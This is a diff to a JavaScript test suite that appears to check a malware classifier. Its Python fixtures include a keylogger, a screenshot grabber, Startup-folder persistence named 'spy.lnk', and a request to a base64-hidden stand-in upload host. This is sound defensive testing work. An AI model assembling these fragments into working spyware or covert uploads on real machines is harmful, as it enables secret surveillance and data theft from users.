@@ -70,3 +70,11 @@ test('uploading local files to a hidden address is malicious even when called; t
   const ping = "import requests, base64\ndef ping():\n    requests.post(base64.b64decode('aHR0cDovL2Ryb3AuaW52YWxpZC91cGxvYWQ=').decode(), json={'v': 1})\n";
   assert.doesNotMatch(await verdict({ 'p/ping.py': ping }), /^malicious/);
 });
+
+test('a keylogger that also captures the screen and installs itself at logon is spyware; a hotkey tool that starts at logon is not', async () => {
+  const keys = "from pynput.keyboard import Listener\ndef run(log):\n    with Listener(on_press=lambda k: log.write(str(k))) as l:\n        l.join()\n";
+  const screen = "from pyautogui import screenshot\ndef shot(path):\n    screenshot().save(path)\n";
+  const enable = "import os, sys\ndef enable():\n    os.link(sys.argv[0], 'C:\\\\ProgramData\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\StartUp\\\\spy.lnk')\n";
+  assert.match(await verdict({ 's/keys.py': keys, 's/screen.py': screen, 's/boot.py': enable }), /^malicious: Spyware behaviour: records keystrokes .* installs itself to start at logon/);
+  assert.doesNotMatch(await verdict({ 's/keys.py': keys, 's/boot.py': enable }), /^malicious/);
+});
